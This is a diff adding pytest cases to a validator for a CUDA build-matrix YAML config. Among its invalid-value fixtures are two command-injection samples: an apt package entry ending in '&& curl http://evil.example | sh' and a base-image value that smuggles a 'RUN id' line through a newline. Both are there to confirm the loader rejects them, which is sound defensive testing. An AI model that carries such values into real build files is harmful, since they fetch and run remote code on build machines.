@@ -45,6 +45,9 @@ def _set(data: dict, path: tuple, value) -> dict:
         (("image_repo",), "imagefactory\n"),  # a trailing newline passes no pattern
         (("toolkits", "cu130", "version"), 13.0),  # number, not string
         (("toolkits", "cu130", "nvcc", "slim", "from"), "conda"),
+        (("toolkits", "cu124", "nvcc", "slim", "apt"), ["nvidia-cuda-toolkit=12.4.131 && curl http://evil.example | sh"]),
+        (("toolkits", "cu124", "nvcc", "slim", "apt"), ["nvidia-cuda-toolkit"]),  # unpinned
+        (("toolkits", "cu124", "nvcc", "slim", "base"), "trixie\nRUN id"),
         (("arches", "hopper", "sms"), ["9"]),
         (("arches", "hopper", "description"), "two\nlines"),
         (("bitsandbytes", "mode"), "binary"),
@@ -75,3 +78,21 @@ def test_the_loader_checks_keys_from_the_schema() -> None:
 
     assert loader.TOP_KEYS == schema.keys(schema.ROOT)
     assert set(json.loads(schema.schema_text())["required"]) == {k for k, required in loader.TOP_KEYS.items() if required}
+
+
+@pytest.mark.parametrize(
+    ("nvcc", "message"),
+    [
+        ({"from": "debian", "apt": ["nvidia-cuda-toolkit=12.4.131~12.4.1-2"]}, "from: debian needs 'base'"),
+        ({"from": "debian", "base": "imagefactory/base:trixie-build"}, "and a non-empty 'apt' list"),
+        ({"from": "debian", "base": "imagefactory/base:trixie-build", "apt": ["nvidia-cuda-toolkit=12.6.85~12.6.3-1"]},
+         "from: debian needs nvidia-cuda-toolkit=12.4.* for CUDA 12.4"),
+        ({"from": "none", "apt": ["nvidia-cuda-toolkit=12.4.131~12.4.1-2"]}, "'base', 'apt' and 'host_compiler' are for from: debian, not from: none"),
+    ],
+)
+def test_debian_nvcc_is_checked_by_the_loader(matrix_data: dict, nvcc: dict, message: str) -> None:
+    """What the schema cannot say: a Debian compiler names its image and a toolkit of the toolkit's own CUDA."""
+    bad = _set(matrix_data, ("toolkits", "cu124", "nvcc", "slim"), nvcc)
+    with pytest.raises(ConfigError) as info:
+        parse_matrix(yaml.safe_dump(bad, sort_keys=False), Path("matrix.yaml"))
+    assert any(message in problem and "toolkits.cu124.nvcc.slim" in problem for problem in info.value.problems), info.value.problems
